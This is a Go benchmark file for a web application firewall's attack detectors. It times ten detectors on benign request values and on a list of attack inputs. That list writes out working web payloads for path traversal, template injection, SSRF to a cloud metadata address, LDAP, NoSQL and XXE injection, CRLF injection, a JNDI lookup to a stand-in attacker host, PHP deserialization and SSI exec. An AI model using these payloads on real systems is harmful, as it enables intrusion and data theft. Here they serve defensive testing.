// Package benchall measures the attack-class detectors of this branch
// together, as the waf stage runs them: every detector on every value.
package benchall

import (
	"testing"

	"github.com/portcullis-waf/portcullis/waf/detect"
	"github.com/portcullis-waf/portcullis/waf/detect/crlf"
	"github.com/portcullis-waf/portcullis/waf/detect/deserialization"
	"github.com/portcullis-waf/portcullis/waf/detect/internal/tabletest"
	"github.com/portcullis-waf/portcullis/waf/detect/jndi"
	"github.com/portcullis-waf/portcullis/waf/detect/ldap"
	"github.com/portcullis-waf/portcullis/waf/detect/nosql"
	"github.com/portcullis-waf/portcullis/waf/detect/ssi"
	"github.com/portcullis-waf/portcullis/waf/detect/ssrf"
	"github.com/portcullis-waf/portcullis/waf/detect/ssti"
	"github.com/portcullis-waf/portcullis/waf/detect/traversal"
	"github.com/portcullis-waf/portcullis/waf/detect/xxe"
)

func detectors() []detect.Detector {
	return []detect.Detector{traversal.New(), ssti.New(), ssrf.New(), ldap.New(), nosql.New(), xxe.New(), crlf.New(), jndi.New(), deserialization.New(), ssi.New()}
}

// all runs every detector on a value, as one detect.Detector.
type all struct{ ds []detect.Detector }

func (all) Class() detect.Class { return "all" }

func (a all) Detect(in detect.Input) (detect.Finding, bool) {
	var best detect.Finding
	found := false
	for _, d := range a.ds {
		if f, ok := d.Detect(in); ok && (!found || f.Confidence > best.Confidence) {
			best, found = f, true
		}
	}
	return best, found
}

// TestClassesDistinct guards the registry the waf stage will build: one
// detector per class.
func TestClassesDistinct(t *testing.T) {
	seen := map[detect.Class]bool{}
	for _, d := range detectors() {
		if seen[d.Class()] {
			t.Errorf("class %q twice", d.Class())
		}
		seen[d.Class()] = true
	}
	if len(seen) != 10 {
		t.Errorf("%d classes, want 10", len(seen))
	}
}

// A typical request's values: arguments, headers, cookies, a JSON body.
var benign = []detect.Input{
	{Value: "running shoes", Where: detect.WhereQuery, Name: "ARGS:q"},
	{Value: "2", Where: detect.WhereQuery, Name: "ARGS:page"},
	{Value: "price_asc", Where: detect.WhereQuery, Name: "ARGS:sort"},
	{Value: "/products/shoes/running", Where: detect.WherePath, Name: "REQUEST_FILENAME"},
	{Value: "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36", Where: detect.WhereHeader, Name: "REQUEST_HEADERS:User-Agent"},
	{Value: "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8", Where: detect.WhereHeader, Name: "REQUEST_HEADERS:Accept"},
	{Value: "en-US,en;q=0.9,de;q=0.8", Where: detect.WhereHeader, Name: "REQUEST_HEADERS:Accept-Language"},
	{Value: "https://shop.example/search?q=running+shoes", Where: detect.WhereHeader, Name: "REQUEST_HEADERS:Referer"},
	{Value: "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwiaWF0IjoxNzE2MjM5MDIyfQ.c2lnbmF0dXJlLWhlcmU", Where: detect.WhereCookie, Name: "REQUEST_COOKIES:session"},
	{Value: "GA1.2.1234567890.1717171717", Where: detect.WhereCookie, Name: "REQUEST_COOKIES:_ga"},
	{Value: "Anna Smith", Where: detect.WhereJSON, Name: "JSON:name"},
	{Value: "anna.smith@example.com", Where: detect.WhereJSON, Name: "JSON:email"},
	{Value: "Hi, I ordered the blue jacket (size M) last week but it hasn't arrived yet. Could you check the status? Thanks!", Where: detect.WhereJSON, Name: "JSON:message"},
	{Value: "https://example.com/callback", Where: detect.WhereQuery, Name: "ARGS:redirect_uri"},
}

var attacks = []detect.Input{
	{Value: "../../../../etc/passwd", Where: detect.WhereQuery, Name: "ARGS:file"},
	{Value: "{{ ''.__class__.__mro__[1].__subclasses__() }}", Where: detect.WhereQuery, Name: "ARGS:name"},
	{Value: "http://169.254.169.254/latest/meta-data/", Where: detect.WhereQuery, Name: "ARGS:url"},
	{Value: "*)(|(objectclass=*))", Where: detect.WhereForm, Name: "ARGS:user"},
	{Value: `{"username": {"$ne": null}, "password": {"$ne": null}}`, Where: detect.WhereBody, Name: "REQUEST_BODY"},
	{Value: `<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>`, Where: detect.WhereBody, Name: "REQUEST_BODY"},
	{Value: "en\r\nSet-Cookie: session=attacker", Where: detect.WhereQuery, Name: "ARGS:lang"},
	{Value: "${${lower:j}ndi:ldap://attacker.example/a}", Where: detect.WhereHeader, Name: "REQUEST_HEADERS:User-Agent"},
	{Value: `O:8:"stdClass":1:{s:1:"a";s:1:"b";}`, Where: detect.WhereCookie, Name: "REQUEST_COOKIES:data"},
	{Value: `<!--#exec cmd="id" -->`, Where: detect.WhereForm, Name: "ARGS:comment"},
}

// BenchmarkAll reports the cost of the ten detectors per request-sized
// set of values (ns/op is per set; x_pass is the ratio to one byte pass).
func BenchmarkAll(b *testing.B) {
	a := all{detectors()}
	b.Run("benign", func(b *testing.B) { tabletest.Bench(b, a, benign) })
	b.Run("attack", func(b *testing.B) { tabletest.Bench(b, a, attacks) })
}
